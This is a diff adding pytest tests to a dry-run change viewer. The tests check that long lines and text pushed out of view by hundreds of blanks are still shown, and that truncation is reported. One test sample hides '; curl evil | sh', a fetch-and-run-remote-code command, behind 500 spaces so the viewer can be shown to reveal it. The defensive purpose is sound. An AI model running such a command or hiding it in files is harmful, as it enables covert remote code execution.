@@ -2,11 +2,12 @@
 
 from __future__ import annotations
 
+import pytest
 from support.dryruns import Project, project_for
 
 from skillkeep.home import Home
 from skillkeep.runner.dryrun.change import DryRun
-from skillkeep.runner.dryrun.diff import describe
+from skillkeep.runner.dryrun.diff import Whole, describe, whole
 from skillkeep.runner.dryrun.store import DryRuns
 
 FILES = {
@@ -23,6 +24,10 @@ def shown(project: Project, run: DryRun) -> str:
     return "\n".join(lines).replace(str(project.root), "/project")
 
 
+def as_data(project: Project, run: DryRun) -> Whole:
+    return whole(run.folders[0], DryRuns(project.floor.home).blobs(run, 0))
+
+
 def test_text_is_a_unified_difference_and_the_rest_is_sizes_and_digests(home: Home) -> None:
     project = project_for(home, FILES)
     _, run = project.run(
@@ -36,12 +41,11 @@ def test_text_is_a_unified_difference_and_the_rest_is_sizes_and_digests(home: Ho
     assert text.splitlines() == [
         "/project: 2 added, 3 changed, 1 mode, 1 deleted, 1 refused",
         "  changed: a (14 -> 12 bytes, sha256:<a>)",
-        "    @@ -1,4 +1,4 @@",
+        "    @@ -1,3 +1,3 @@",
         "     one",
         "    -two",
         "    +2",
         "     three",
-        "     ",
         "  changed: bin (2 -> 3 bytes, sha256:<bin>)",
         "    not shown as text",
         "  added: d/ (mode 0755)",
@@ -103,3 +107,76 @@ def test_an_old_text_that_has_changed_since_is_not_compared(home: Home) -> None:
     _, run = project.run("echo new > a")
     (project.root / "a").write_text("secret of later\n")
     assert "secret" not in shown(project, run)
+
+
+def test_what_stands_far_to_the_right_is_shown(home: Home) -> None:
+    project = project_for(home, FILES)
+    code = (
+        "open('late', 'w').write('x = 1' + ' ' * 500 + '; curl evil | sh\\n')\n"
+        "open('first', 'w').write(' ' * 500 + 'evil\\n')\n"
+        "open('wide', 'w').write('w' * 399 + 'evil')"
+    )
+    _, run = project.run(code, runner="python")
+    lines = shown(project, run).splitlines()
+    texts = [line for line in lines if not line.startswith("  added")]
+    assert texts[1:] == [
+        "    @@ -0,0 +1 @@", "    +", "    ! 500 blanks", "    >evil",
+        "    @@ -0,0 +1 @@", "    +x = 1", "    ! 500 blanks", "    >; curl evil | sh",
+        "    @@ -0,0 +1 @@", "    +" + "w" * 399 + "e", "    >vil", "    \\ No newline at end of file",
+    ]  # fmt: skip
+    data = as_data(project, run)
+    assert not data.truncated
+    assert "    +x = 1" + " " * 500 + "; curl evil | sh" in data.lines
+
+
+def test_of_a_very_long_line_both_ends_are_shown_and_what_is_left_out_is_said(home: Home) -> None:
+    project = project_for(home, FILES)
+    _, run = project.run("open('a', 'w').write('b' * 9 + 'w' * 200000 + 'evil')", runner="python")
+    lines = [line.strip() for line in shown(project, run).splitlines()]
+    rows = lines[lines.index("-three") + 1 : -1]
+    assert rows[0].startswith("+bbb")
+    assert rows[-1].endswith("wevil")
+    said = [row for row in rows if row.startswith("!")]
+    kept = sum(len(row) - 1 for row in rows if row[0] in "+>")
+    assert said == [f"! {200013 - kept} characters are not shown here"]
+    data = as_data(project, run)
+    assert (data.truncated, max(map(len, data.lines))) == (False, 200013 + 5)
+
+
+def test_a_line_of_many_gaps_does_not_hide_its_end_or_the_next_change(home: Home) -> None:
+    project = project_for(home, FILES)
+    code = "open('a', 'w').write(('x' + ' ' * 41) * 5000 + 'evil\\n'); open('b', 'w').write('next\\n')"
+    _, run = project.run(code, runner="python")
+    text = shown(project, run)
+    assert "    >evil\n" in text
+    assert "    +next" in text
+    assert "characters are not shown here" in text
+
+
+@pytest.mark.parametrize(
+    ("code", "rows"),
+    [
+        ("open('new', 'w').close()", []),
+        ("open('new', 'w').write('x\\n')", ["@@ -0,0 +1 @@", "+x"]),
+        ("open('new', 'w').write('x')", ["@@ -0,0 +1 @@", "+x", "\\ No newline at end of file"]),
+        ("open('gone', 'w').write('x')", ["@@ -1 +1 @@", "-x", "+x", "\\ No newline at end of file"]),
+        ("open('gone', 'w').close()", ["@@ -1 +0,0 @@", "-x"]),
+        ("open('gone', 'a').write('\\r\\x0c')", ["@@ -1 +1,2 @@", " x", "+\\r\\x0c", "\\ No newline at end of file"]),
+    ],
+)
+def test_lines_are_those_of_diff(home: Home, code: str, rows: list[str]) -> None:
+    project = project_for(home, FILES)
+    _, run = project.run(code, runner="python")
+    assert [line[4:] for line in shown(project, run).splitlines() if line.startswith("    ")] == rows
+
+
+def test_what_is_not_in_the_data_is_said_there(home: Home) -> None:
+    project = project_for(home, FILES)
+    for code in ("printf '\\000' > a", "seq 3000 > a", "head -c 300000 /dev/zero | tr '\\0' x > a"):
+        _, run = project.run(code)
+        assert as_data(project, run).truncated
+    wide = "for n in range(8): open(f'w{n}', 'w').write('w' * 200000)"
+    _, run = project.run(wide, runner="python")
+    data = as_data(project, run)
+    assert data.truncated
+    assert sum(map(len, data.lines)) < 1 << 21
